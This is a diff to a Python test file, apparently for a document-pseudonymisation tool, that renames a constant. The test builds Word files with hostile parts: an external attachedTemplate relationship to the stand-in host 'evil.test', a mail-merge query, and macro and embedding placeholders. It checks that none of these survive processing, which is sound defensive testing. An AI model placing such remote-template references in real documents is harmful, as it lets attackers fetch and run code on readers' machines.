@@ -12,7 +12,7 @@ from docx import Document
 from lcspr_kit.privacy.files import pseudonymise_file
 
 W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
-O = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
 
 
 def _package(data, path, parts):
@@ -48,7 +48,7 @@ def _field(code, shown, tag="instrText"):
 
 
 def _relation(kind, target, number, outside=True):
-    return f'<Relationship Id="x{number}" Type="{O}{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if outside else ""}/>'
+    return f'<Relationship Id="x{number}" Type="{RELATION}{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if outside else ""}/>'
 
 
 def _whole(path):
@@ -120,7 +120,7 @@ def test_nothing_in_a_word_file_leads_out_or_runs(register, tmp_path):
         relations,
         {
             "word/settings.xml": lambda _: f'<w:settings {W}><w:attachedTemplate r:id="t1"/><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge><w:zoom w:percent="100"/></w:settings>'.encode(),
-            settings: lambda _: f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t1" Type="{O}attachedTemplate" Target="https://evil.test/t.dotm" TargetMode="External"/></Relationships>'.encode(),
+            settings: lambda _: f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t1" Type="{RELATION}attachedTemplate" Target="https://evil.test/t.dotm" TargetMode="External"/></Relationships>'.encode(),
             "word/chunk.html": lambda _: b"<p>Hope Brannow</p>",
             "word/embeddings/a.xlsx": lambda _: b"Hope Brannow",
             "word/vbaProject.bin": lambda _: b"Hope Brannow",
